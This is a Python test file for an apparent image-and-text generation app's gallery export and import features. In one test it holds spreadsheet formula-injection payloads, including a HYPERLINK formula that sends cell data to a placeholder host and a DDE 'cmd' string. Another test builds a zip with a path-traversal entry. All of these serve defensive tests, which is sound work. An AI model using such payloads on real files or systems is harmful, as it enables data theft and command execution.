import csv
import io
import json
import os
import shutil
import subprocess
import sys
import threading
import zipfile
from pathlib import Path

import pytest
from PIL import Image

from desktop.core.errors import Cancelled, UserFacingError
from desktop.core.image.image_metadata import encode_image, read_settings
from desktop.core.image.image_settings import ImageSettings
from desktop.store import gallery_export
from desktop.store.asset_files import write_atomically
from desktop.store.gallery_export import collect, export_gallery
from desktop.store.generations import AssetMeta, NewGeneration
from desktop.store.library import Library


@pytest.fixture
def library(tmp_path):
    lib = Library(tmp_path / "lib")
    for i in range(3):
        settings = ImageSettings(prompt=f"<b>tile</b> {i}", seed=i)
        gid = lib.generations.start(NewGeneration(modality="image", kind="txt2img", prompt=settings.prompt,
                                                  params={"steps": 2}, seed=i))
        data = encode_image(Image.new("RGB", (8, 8), "red"), "PNG", settings, {"settings": settings.as_dict()})
        written = write_atomically(lib.layout.root, f"assets/{gid}.png", data)
        lib.generations.finish(gid, assets=[AssetMeta(written, "image/png", 8, 8)])
    chat = lib.generations.start(NewGeneration(modality="text", kind="chat", prompt="a haiku", params={}))
    lib.generations.finish(chat, output_text="old pond / a frog jumps")
    holiday = lib.items.create_collection("Holiday")
    lib.items.add_to_collection(holiday, [1, chat])
    yield lib
    lib.close()


def test_zip_export_has_files_with_metadata_manifests_and_html(tmp_path, library):
    out = tmp_path / "gallery.zip"
    seen = []
    result = export_gallery(library, out, collect(library), "zip", progress=lambda d, t: seen.append((d, t)))
    assert (result.items, result.files) == (4, 3) and seen[-1] == (4, 4)
    with zipfile.ZipFile(out) as z:
        names = set(z.namelist())
        assert {"manifest.json", "manifest.csv", "index.html"} <= names
        manifest = json.loads(z.read("manifest.json"))
        assert [i["id"] for i in manifest["items"]] == [1, 2, 3, 4]
        assert manifest["items"][0]["collections"] == ["Holiday"]
        rows = list(csv.DictReader(io.StringIO(z.read("manifest.csv").decode())))
        assert rows[3]["prompt"] == "a haiku" and rows[0]["sha256"] == manifest["items"][0]["assets"][0]["sha256"]
        assert "&lt;b&gt;tile&lt;/b&gt;" in z.read("index.html").decode()
        z.extract(manifest["items"][0]["file"], tmp_path / "x")
    assert read_settings(tmp_path / "x" / manifest["items"][0]["file"]).seed == 0  # metadata travelled


def test_folder_export_of_a_collection(tmp_path, library):
    out = tmp_path / "holiday"
    export_gallery(library, out, collect(library, collection="Holiday"), "folder")
    manifest = json.loads((out / "manifest.json").read_text())
    assert [i["modality"] for i in manifest["items"]] == ["image", "text"]
    assert (out / manifest["items"][0]["file"]).exists()
    with pytest.raises(UserFacingError, match="no collection"):
        collect(library, collection="Nope")


def test_cancelled_or_clashing_exports_leave_nothing(tmp_path, library):
    cancel = threading.Event()
    out = tmp_path / "g.zip"
    with pytest.raises(Cancelled):
        export_gallery(library, out, collect(library), "zip", progress=lambda d, t: cancel.set(), cancel=cancel)
    assert not out.exists() and not list(tmp_path.glob(".export-*")) and not list(tmp_path.glob("*.partial"))
    out.write_text("keep me")
    with pytest.raises(UserFacingError, match="already exists"):
        export_gallery(library, out, collect(library), "zip")
    assert out.read_text() == "keep me"


def test_cli_export(tmp_path, library, capsys):
    from desktop.cli import main

    data_dir = library.layout.root
    assert main(["--data-dir", str(data_dir), "export", "--out", str(tmp_path / "all.zip")]) == 0
    assert zipfile.is_zipfile(tmp_path / "all.zip")
    assert main(["--data-dir", str(data_dir), "export", "--out", str(tmp_path / "hol"), "--collection", "Holiday"]) == 0
    assert len(json.loads((tmp_path / "hol" / "manifest.json").read_text())["items"]) == 2
    assert main(["--data-dir", str(data_dir), "export", "--out", str(tmp_path / "x.zip"), "--collection", "Nope"]) == 1
    assert "no collection" in capsys.readouterr().err


def test_export_then_import_round_trip_and_duplicates(tmp_path, library):
    from desktop.store.gallery_import import import_gallery

    library.items.set_favorite([2], True)
    library.items.set_rating([3], 4)
    library.items.add_tag([1], "beach")
    out = tmp_path / "gallery.zip"
    export_gallery(library, out, collect(library), "zip")
    fresh = Library(tmp_path / "fresh")
    result = import_gallery(fresh, out)
    assert (result.imported, result.duplicates) == (4, 0)
    before, after = collect(library), collect(fresh)
    for a, b in zip(before, after):
        for key in ("modality", "kind", "prompt", "output_text", "params", "seed", "created_at", "favorite",
                    "rating", "tags", "collections"):
            assert a[key] == b[key], key
        assert [x["sha256"] for x in a["assets"]] == [x["sha256"] for x in b["assets"]]
    image = fresh.layout.root / after[0]["assets"][0]["path"]
    assert read_settings(image).prompt == "<b>tile</b> 0"
    again = import_gallery(fresh, out)
    assert (again.imported, again.duplicates) == (0, 4)
    fresh.close()


def test_damaged_or_foreign_archives_are_refused(tmp_path, library):
    from desktop.store.gallery_import import import_gallery

    out = tmp_path / "g.zip"
    export_gallery(library, out, collect(library), "zip")
    tampered = tmp_path / "tampered.zip"
    with zipfile.ZipFile(out) as src, zipfile.ZipFile(tampered, "w") as dst:
        for item in src.infolist():
            data = src.read(item)
            dst.writestr(item, data + b"x" if item.filename.startswith("files/") else data)
    fresh = Library(tmp_path / "fresh")
    with pytest.raises(UserFacingError, match="checksum"):
        import_gallery(fresh, tampered)
    foreign = tmp_path / "foreign.zip"
    with zipfile.ZipFile(foreign, "w") as z:
        z.writestr("readme.txt", "hello")
    with pytest.raises(UserFacingError, match="not an Atelier gallery"):
        import_gallery(fresh, foreign)
    evil = tmp_path / "evil.zip"
    with zipfile.ZipFile(evil, "w") as z:
        z.writestr("manifest.json", "{}")
        z.writestr("../../escape.txt", "x")
    with pytest.raises(UserFacingError, match="outside its folder"):
        import_gallery(fresh, evil)
    assert not (tmp_path / "escape.txt").exists()
    fresh.close()


def test_cli_import(tmp_path, library, capsys):
    from desktop.cli import main

    out = tmp_path / "g.zip"
    export_gallery(library, out, collect(library), "zip")
    assert main(["--data-dir", str(tmp_path / "other"), "import", str(out)]) == 0
    assert "4 imported, 0 already" in capsys.readouterr().out
    assert main(["--data-dir", str(tmp_path / "other"), "import", str(tmp_path / "missing.zip")]) == 1


def test_manifest_is_strict_json_and_csv_cells_cannot_run_formulas(tmp_path, library):
    from desktop.store.gallery_import import import_gallery

    hostile = {"prompt": '=HYPERLINK("http://x.example/?"&A1,"click")', "negative": "=cmd|' /C calc'!A0",
               "model_name": "@SUM(1+1)"}
    gid = library.generations.start(NewGeneration(modality="text", kind="chat", params={"cfg": float("nan"),
                                                  "steps": [1, float("inf")]}, seed=-5, **hostile))
    library.generations.finish(gid, output_text="+1 -1")
    library.items.add_tag([gid], "-tag")
    out = tmp_path / "g.zip"
    export_gallery(library, out, collect(library), "zip")
    with zipfile.ZipFile(out) as z:
        def refuse(name):
            raise AssertionError(f"{name} in manifest.json")
        manifest = json.loads(z.read("manifest.json"), parse_constant=refuse)  # strict JSON
        rows = {row["id"]: row for row in csv.DictReader(io.StringIO(z.read("manifest.csv").decode()))}
    entry = manifest["items"][-1]
    assert entry["params"] == {"cfg": None, "steps": [1, None]} and entry["prompt"] == hostile["prompt"]
    row = rows[str(gid)]
    assert row["prompt"] == "'" + hostile["prompt"] and row["negative"] == "'" + hostile["negative"]
    assert row["model_name"] == "'@SUM(1+1)" and row["seed"] == "-5"  # a number stays a number
    for start in ("+", "-", "\t", "\r"):
        assert gallery_export._cell(start + "x") == "'" + start + "x"
    assert gallery_export._cell("a=b") == "a=b"
    fresh = Library(tmp_path / "fresh")
    import_gallery(fresh, out)  # the manifest keeps the text itself: it comes back unchanged
    back = fresh.generations.get(5)
    assert (back.prompt, back.negative, back.params) == (hostile["prompt"], hostile["negative"], entry["params"])
    fresh.close()


def test_file_names_carry_the_item_id_once_and_csv_dates_are_iso_8601(tmp_path, library):
    import datetime as dt

    gid = library.generations.start(NewGeneration(modality="image", kind="txt2img", prompt="named as jobs do",
                                                  params={}))
    written = write_atomically(library.layout.root, f"assets/2026/12/01/{gid:08d}-42.png", b"png")
    library.generations.finish(gid, assets=[AssetMeta(written, "image/png")])
    made = dt.datetime(2026, 12, 1, 17, 53, 6, tzinfo=dt.timezone.utc)
    library.conn.execute("UPDATE generations SET created_at=? WHERE id=?", (made.timestamp() + 0.25, gid))
    out = tmp_path / "g"
    export_gallery(library, out, collect(library), "folder")
    manifest = json.loads((out / "manifest.json").read_text())
    files = {item["id"]: item["file"] for item in manifest["items"]}
    assert files[gid] == f"files/{gid:08d}-42.png"  # not 00000005-00000005-42.png
    assert files[1] == "files/00000001-1.png"  # a name without the id gets it in front
    assert all((out / name).is_file() for name in files.values() if name)
    rows = {int(row["id"]): row for row in csv.DictReader(io.StringIO((out / "manifest.csv").read_text()))}
    assert rows[gid]["created_at"] == "2026-12-01T17:53:06Z"
    for row in rows.values():
        when = dt.datetime.fromisoformat(row["created_at"])
        assert when.tzinfo is not None and when.utcoffset() == dt.timedelta(0)
    assert manifest["items"][-1]["created_at"] == pytest.approx(made.timestamp() + 0.25)  # the importer's number


def test_export_names_stay_apart_within_a_gallery():
    taken = set()
    names = [gallery_export.export_name(7, path, taken)
             for path in ("a/00000007-1.png", "b/00000007-1.png", "c/00000007-1.PNG", "00000008-1.png")]
    assert names == ["files/00000007-1.png", "files/00000007-1-2.png", "files/00000007-1-3.PNG",
                     "files/00000007-00000008-1.png"]
    assert gallery_export.iso_time(None) == "" and gallery_export.iso_time(1e300) == ""
    assert gallery_export.iso_time(0) == "1970-01-01T00:00:00Z"


@pytest.fixture
def small_disk(tmp_path):
    """A 48 MB file system of its own (tmpfs), to fill up."""
    mount = tmp_path / "small"
    mount.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=48m", "tmpfs", str(mount)],
                      capture_output=True).returncode != 0:
        pytest.skip("mounting a small file system needs root")
    yield mount
    subprocess.run(["umount", "-l", str(mount)], check=False)


def fill(folder):
    with open(folder / "filler", "wb") as handle:
        try:
            while True:
                handle.write(bytes(1 << 20))
                handle.flush()
        except OSError:
            pass


def test_exporting_to_another_disk_works_when_the_library_disk_is_full(tmp_path, small_disk):
    library = Library(small_disk / "lib")
    gid = library.generations.start(NewGeneration(modality="image", kind="txt2img", prompt="full", params={}))
    written = write_atomically(library.layout.root, "assets/big.png", os.urandom(4_000_000))
    library.generations.finish(gid, assets=[AssetMeta(written, "image/png")])
    entries = collect(library)
    fill(small_disk)
    assert shutil.disk_usage(small_disk).free < 1 << 20
    for fmt, out in (("zip", tmp_path / "saved.zip"), ("folder", tmp_path / "saved")):
        result = export_gallery(library, out, entries, fmt)
        assert (result.items, result.files) == (1, 1)
    with zipfile.ZipFile(tmp_path / "saved.zip") as z:
        assert z.read("files/00000001-big.png") == (small_disk / "lib/assets/big.png").read_bytes()
    assert (tmp_path / "saved/files/00000001-big.png").stat().st_size == 4_000_000
    assert not list(tmp_path.glob("*.partial")) and not any(library.layout.temp.iterdir())
    library.close()


def test_an_export_goes_ahead_when_the_library_cannot_record_its_staging(tmp_path, library, monkeypatch):
    import sqlite3

    from desktop.store import staging

    def full(*args):
        raise sqlite3.OperationalError("database or disk is full")

    monkeypatch.setattr(staging, "register", full)
    monkeypatch.setattr(staging, "release", full)
    assert export_gallery(library, tmp_path / "g.zip", collect(library), "zip").items == 4
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith("g.zip")] == ["g.zip"]


def test_a_full_destination_says_so_and_leaves_nothing(tmp_path, library, small_disk):
    for i in range(1, 4):  # 3 x 20 MB: more than the destination holds
        (library.layout.root / library.generations.get(i).assets[0]["path"]).write_bytes(os.urandom(20_000_000))
    for fmt, name in (("zip", "g.zip"), ("folder", "g")):
        with pytest.raises(UserFacingError, match=f"not enough free space in {small_disk}"):
            export_gallery(library, small_disk / name, collect(library), fmt)
        assert list(small_disk.iterdir()) == []
    assert library.conn.execute("SELECT count(*) FROM staging").fetchone()[0] == 0


_watched: list[Path] = []


def _writes_into_watched(event, args):
    if not _watched or event not in ("open", "os.mkdir", "os.rename", "os.replace"):
        return
    path, mode = args[0], args[1] if event == "open" and len(args) > 1 else "w"
    writing = isinstance(mode, str) and any(c in mode for c in "wax+") or (
        isinstance(args[-1], int) and event == "open" and args[-1] & (os.O_WRONLY | os.O_RDWR | os.O_CREAT))
    if writing and isinstance(path, (str, Path)) and Path(path).resolve().is_relative_to(_watched[0]):
        raise AssertionError(f"the export wrote {path} inside the library")


def test_an_export_writes_nothing_in_the_library_folder(tmp_path, library):
    sys.addaudithook(_writes_into_watched)  # a hook stays for the session: it acts only while watching
    _watched.append(library.layout.root.resolve())
    try:
        export_gallery(library, tmp_path / "a.zip", collect(library), "zip")
        export_gallery(library, tmp_path / "a", collect(library), "folder")
    finally:
        _watched.clear()
    assert zipfile.is_zipfile(tmp_path / "a.zip") and (tmp_path / "a" / "manifest.json").exists()


def test_an_export_staged_by_a_dead_process_is_removed_by_the_next_start(tmp_path, library):
    """What the window and every CLI command run when they open the library."""
    from desktop.store import staging

    partial = tmp_path / "gallery.zip.0badc0de.partial"
    staging.register(library, partial)
    partial.write_bytes(b"half a zip")
    library.conn.execute("UPDATE staging SET owner='1-deadbeef'")  # as if its process had died
    assert library.recover_after_crash().staging_removed == 1 and not partial.exists()
